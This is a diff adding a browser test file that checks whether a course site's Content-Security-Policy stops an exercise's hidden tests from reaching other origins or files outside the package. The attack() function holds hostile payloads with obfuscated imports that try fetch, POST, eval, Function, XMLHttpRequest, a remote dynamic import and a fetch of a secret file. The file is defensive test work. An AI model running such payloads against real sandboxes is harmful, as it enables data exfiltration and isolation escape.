@@ -1,0 +1,222 @@
+"""Issue 69 in real Chromium: the Python worker runs under the page's policy, wherever the page is
+read. An exercise's hidden `tests:` (which a pull request writes) try `js.fetch` and `js.eval` to
+another origin, a dynamic `import()`, an XMLHttpRequest and a fetch of a file of the hosting
+origin outside the site, when a learner presses Check: on the built site, under `mkdocs serve`
+and in a SCORM package played as tests/browser/test_export_scorm.py plays it, no request reaches
+the other origin nor the hosting origin's other files, and Python still runs the exercise.
+
+The pages' policy is a `<meta>` tag; the worker, started from a blob: URL, inherits it (measured
+here: on the old code, a worker loaded from the site's URL had no policy at all, and the same
+tests made requests to the other origin)."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import threading
+import time
+import zipfile
+
+import pytest
+from playwright.sync_api import expect
+from test_export_scorm import HARNESS, HARNESS_JS, course_frame, scorm_again
+
+from conftest import run_mkdocs
+from course import lesson_md, write
+from test_runnable import runnable_course
+from tracksite.commands.cli import main
+from tracksite.localserver import QuietHandler, serve_folder
+
+pytestmark = pytest.mark.browser
+
+START = 90_000
+
+
+class Recorder(QuietHandler):
+    """A server that notes every request it gets (another origin, or an LMS's files)."""
+
+    seen: list[str] = []
+    lock = threading.Lock()
+
+    def _note(self) -> None:
+        with self.lock:
+            self.seen.append(f"{self.command} {self.path}")
+
+    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+        self._note()
+        super().do_GET()
+
+    def do_POST(self) -> None:  # noqa: N802
+        self._note()
+        self.send_response(204)
+        self.end_headers()
+
+    def do_OPTIONS(self) -> None:  # noqa: N802
+        self._note()
+        self.send_response(204)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    def end_headers(self) -> None:
+        self.send_header("Access-Control-Allow-Origin", "*")
+        super().end_headers()
+
+
+class Other(Recorder):
+    seen: list[str] = []
+
+
+class Lms(Recorder):
+    seen: list[str] = []
+
+
+def attack(other: str) -> str:
+    """The exercise: harmless code and solution, hostile hidden tests (their imports hidden from
+    the static check, as an attacker hides them)."""
+    tests = f"""\
+js = getattr(__import__("builtins"), "__imp" + "ort__")("j" + "s")
+def attempt(name, act):
+    try:
+        act()
+        print(name, "went")
+    except BaseException as e:
+        print(name, "refused", type(e).__name__)
+attempt("fetch", lambda: js.fetch("{other}fetch"))
+attempt("post", lambda: js.fetch("{other}post", js.Object.fromEntries([["method", "POST"]])))
+attempt("eval", lambda: js.eval("fetch('{other}eval'); 1"))
+attempt("function", lambda: js.Function("return fetch('{other}function')")())
+attempt("xhr", lambda: js.XMLHttpRequest.new())
+attempt("outside", lambda: js.fetch("/secret.txt"))
+attempt("import", lambda: js.eval("import('{other}import.js')"))
+assert x == 2
+"""
+    return (
+        "/// runnable | Hostile tests\ncode: x = 1\ntests: |\n"
+        + "".join(f"  {line}\n" for line in tests.splitlines())
+        + "solution: x = 2\ntimeout: 20\n///\n"
+    )
+
+
+@pytest.fixture(scope="module")
+def other(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("other-origin")
+    (folder / "import.js").write_text("fetch(location.origin + '/imported');\n", encoding="utf-8")
+    with serve_folder(folder, Other) as base:
+        yield base
+
+
+@pytest.fixture(scope="module")
+def hostile_course(tmp_path_factory, other):
+    root = runnable_course(tmp_path_factory.mktemp("hostile") / "course")
+    write(root, "lessons/alpha/a2/lesson.md", lesson_md("Second lesson", body="## Practice\n\n" + attack(other)))
+    result = run_mkdocs(root)
+    assert result.returncode == 0, result.stderr[-3000:]
+    return root
+
+
+def press_check(frame) -> str:
+    """Check on the hostile block, with the code that passes; the output the tests printed."""
+    block = frame.locator("[data-widget=runnable]").first
+    block.get_by_label("Code (editable)").fill("x = 2")
+    block.get_by_role("button", name="Check").click()
+    expect(block.locator(".ts-run__status")).to_have_text("Passed: every check holds.", timeout=START)
+    time.sleep(1.5)  # a request the tests started would have arrived
+    return block.locator(".ts-run__output").inner_text()
+
+
+def held(out: str) -> None:
+    assert Other.seen == [], f"requests reached another origin: {Other.seen}\n{out}"
+    for name in ("eval", "function", "xhr"):
+        assert f"{name} refused" in out, out
+
+
+def test_hidden_tests_reach_no_other_origin_from_the_built_site(chromium, hostile_course, serve_site):
+    Other.seen.clear()
+    base = serve_site(hostile_course / "site")
+    context = chromium.new_context()
+    page = context.new_page()
+    page.goto(base + "alpha/a2/")
+    out = press_check(page)
+    held(out)
+    context.close()
+
+
+def test_hidden_tests_reach_no_other_origin_under_a_header_policy(chromium, hostile_course, tmp_path):
+    """A host that sends the page's policy as a header (and no `<meta>` tag): the worker inherits
+    that one too; the worker's own files come with no header at all."""
+    site = tmp_path / "site"
+    shutil.copytree(hostile_course / "site", site)
+    page_file = site / "alpha/a2/index.html"
+    html = page_file.read_text(encoding="utf-8")
+    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
+    assert meta is not None
+    page_file.write_text(html.replace(meta.group(0), ""), encoding="utf-8")
+
+    class Header(QuietHandler):
+        def end_headers(self) -> None:
+            if self.path.startswith("/alpha/a2/"):
+                self.send_header("Content-Security-Policy", meta.group(1))
+            super().end_headers()
+
+    Other.seen.clear()
+    context = chromium.new_context()
+    page = context.new_page()
+    with serve_folder(site, Header) as base:
+        page.goto(base + "alpha/a2/")
+        out = press_check(page)
+    held(out)
+    context.close()
+
+
+def test_hidden_tests_reach_no_other_origin_under_mkdocs_serve(chromium, hostile_course):
+    from test_serve import serving, wait_for
+
+    Other.seen.clear()
+    context = chromium.new_context()
+    page = context.new_page()
+    with serving(hostile_course) as (base, proc):
+        wait_for(base + "alpha/a2/", "Hostile tests")
+        page.goto(base + "alpha/a2/")
+        out = press_check(page)
+    held(out)
+    context.close()
+
+
+def test_hidden_tests_reach_nothing_outside_the_scorm_package(chromium, hostile_course, tmp_path_factory):
+    """In an LMS the package is served from the LMS's origin, beside its other files: the code
+    reaches neither another origin nor the LMS's files outside the package."""
+    runtime = scorm_again()
+    folder = tmp_path_factory.mktemp("lms-hostile")
+    out = folder / "course-scorm.zip"
+    assert main(["--root", str(hostile_course), "export", "scorm", "--version", "1.2", "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as z:
+        z.extractall(folder / "pkg")
+    shutil.copyfile(runtime, folder / "scorm12.min.js")
+    (folder / "index.html").write_text(HARNESS, encoding="utf-8")
+    (folder / "harness.js").write_text(HARNESS_JS, encoding="utf-8")
+    (folder / "secret.txt").write_text("the LMS's own data", encoding="utf-8")
+    Other.seen.clear()
+    Lms.seen.clear()
+    context = chromium.new_context()
+    page = context.new_page()
+    with serve_folder(folder, Lms) as lms:
+        page.goto(lms)
+        course_frame(page)
+        page.frame_locator("#sco").locator("#ts-scorm-frame").evaluate(
+            "f => f.contentWindow.location.assign('alpha/a2/index.html')"
+        )
+        frame = course_frame(page, "alpha/a2/index.html")
+        printed = press_check(frame)
+    held(printed)
+    assert not [r for r in Lms.seen if "secret" in r], Lms.seen
+    context.close()
+
+
+def test_the_worker_of_a_runnable_page_may_only_be_a_blob(hostile_course):
+    """The policy a runnable page carries: its worker from a blob: URL (which inherits it), no
+    worker from a URL (which would run under its own response's headers), no eval."""
+    html = (hostile_course / "site/alpha/a2/index.html").read_text(encoding="utf-8")
+    policy = html.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
+    directives = {d.split()[0]: d.split()[1:] for d in policy.split("; ")}
+    assert directives["worker-src"] == ["blob:"]
+    assert "'unsafe-eval'" not in policy and directives["connect-src"] == ["'self'"]
